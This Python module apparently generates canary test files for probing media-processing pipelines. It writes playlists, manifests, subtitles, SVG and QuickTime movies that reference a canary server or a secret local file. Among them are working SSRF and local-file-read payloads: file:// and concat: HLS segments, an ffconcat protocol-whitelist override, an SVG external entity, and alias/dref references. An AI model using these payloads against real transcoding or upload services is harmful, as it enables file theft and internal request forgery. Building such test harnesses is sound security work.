"""Files that point at other files and addresses: playlists, manifests, movies whose tracks lie elsewhere."""

import struct
from pathlib import Path

from boxes import Track, box, full_box, movie, numbers

SHOW = "show"  # the path of every address


def make_references(folder: Path, address: str, secret: Path, video: Path) -> None:
    """Write files of which every one refers to the canary server, the canary file or an ordinary video.

    Args:
        folder: for the files.
        address: host and port of the canary server.
        secret: the canary file.
        video: an ordinary video, which only the files that refer to it would show.
    """
    web = f"http://{address}/{SHOW}"
    for name, text in _texts(web, address, secret, video).items():
        (folder / name).write_text(text, encoding="utf-8")
        for ending in (".mp4", ".mp3"):
            (folder / (name.replace(".", "-") + ending)).write_text(text, encoding="utf-8")
    for name, content in _movies(web, secret, video).items():
        (folder / name).write_bytes(content)
    (folder / "cover.mp3").write_bytes(_with_cover(web))
    (folder / "cover.flac").write_bytes(_with_picture(web))


def _texts(web: str, address: str, secret: Path, video: Path) -> dict[str, str]:
    segments = "#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n{}\n#EXT-X-ENDLIST\n"
    stylesheet = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    key = f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{web}"\n#EXTINF:2,\n{video}\n#EXT-X-ENDLIST\n'
    return {
        "web.m3u8": segments.format(f"{web}.ts"),
        "file.m3u8": segments.format(f"file://{secret}"),
        "plain.m3u8": segments.format(video),
        "concat.m3u8": segments.format(f"concat:{web}|file://{secret}"),
        "subfile.m3u8": segments.format(f"subfile,,start,0,end,100,,:{secret}"),
        "key.m3u8": key,
        "master.m3u8": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{web}.m3u8\n",
        "list.m3u": f"#EXTM3U\n#EXTINF:2,\n{web}\n",
        "web.ffconcat": f"ffconcat version 1.0\nfile '{web}'\n",
        "file.ffconcat": f"ffconcat version 1.0\nfile '{secret}'\nfile '{video}'\n",
        "options.ffconcat": f"ffconcat version 1.0\nfile '{video}'\n"
        f"option protocol_whitelist file,http,tcp\nfile '{web}'\n",
        "web.mpd": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"'
        f' bandwidth="1"><BaseURL>{web}</BaseURL></Representation></AdaptationSet></Period></MPD>',
        "entity.svg": f'{stylesheet}<svg xmlns="http://www.w3.org/2000/svg">'
        f'<image href="{web}"/><text>&e;</text></svg>',
        "stream.sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n",
        "web.asx": f'<asx version="3.0"><entry><ref href="{web}"/></entry></asx>',
        "web.smil": f'<smil><body><video src="{web}"/></body></smil>',
        "web.strm": web,
        "rtsp.txt": f"rtsp://{address}/{SHOW}",
        "web.qtl": f'<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="{web}"/>',
        "web.ram": f"{web}\n",
        "reference.txt": f"[Reference]\nRef1={web}\n",
        "subtitles.srt": f"1\n00:00:00,000 --> 00:00:02,000\n<img src='{web}'>\n",
        "subtitles.ass": "[Script Info]\nScriptType: v4.00+\n[Events]\n"
        f"Dialogue: 0,0:00:00.00,0:00:02.00,,,,,,,{web}\n",
    }


def _movies(web: str, secret: Path, video: Path) -> dict[str, bytes]:
    address = full_box(b"rdrf", b"url ", numbers(len(web) + 1), web.encode() + b"\0")
    redirect = box(b"rmra", box(b"rmda", address))
    plain = {"sizes": numbers(500, 1), "times": numbers(1, 1, 1000)}
    found = {
        "rmra.mov": box(b"ftyp", b"qt  ", numbers(0), b"qt  ") + box(b"moov", redirect),
        "rmra-and-track.mov": movie(Track(**plain), more=redirect, brand=b"qt  "),
        "dref-url.mov": movie(Track(**plain, reference=full_box(b"url ", web.encode() + b"\0")), brand=b"qt  "),
    }
    for name, place in (("secret", secret), ("video", video)):
        for kind in (b"alis", b"url "):
            content = _alias(place) if kind == b"alis" else f"file://{place}".encode() + b"\0"
            track = Track(**plain, reference=full_box(kind, content))
            found[f"dref-{kind.decode().strip()}-{name}.mov"] = movie(track, brand=b"qt  ")
    return found


def _alias(place: Path) -> bytes:
    """Return an alias of the Macintosh, with the path in the two ways in which FFmpeg looks for it."""
    name, path = place.name.encode()[:63], str(place).encode()
    head = bytes(10) + b"\0" * 27 + bytes(5) + bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    levels = struct.pack(">hh", 1, 1) + bytes(16)
    texts = b"".join(
        struct.pack(">hH", kind, len(text)) + text + b"\0" * (len(text) % 2) for kind, text in ((2, path), (18, path))
    )
    return head + levels + texts + struct.pack(">hH", -1, 0)


def _with_cover(web: str) -> bytes:
    """Return an mp3 of silence whose cover picture is an address."""
    picture = b"\0-->\0\x03\0" + web.encode()
    frame = b"APIC" + struct.pack(">I", len(picture)) + b"\0\0" + picture
    size = len(frame)
    sizes = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + sizes + frame + (b"\xff\xfb\x90\x64" + bytes(413)) * 60


def _with_picture(web: str) -> bytes:
    """Return a FLAC head whose picture is an address."""
    text = web.encode()
    picture = numbers(3, 3) + b"-->" + numbers(0, 1, 1, 24, 0, len(text)) + text
    info = struct.pack(">HH", 4096, 4096) + bytes(6) + bytes.fromhex("0ac442f000000000") + bytes(16)
    return b"fLaC\0" + struct.pack(">I", 34)[1:] + info + b"\x86" + struct.pack(">I", len(picture))[1:] + picture
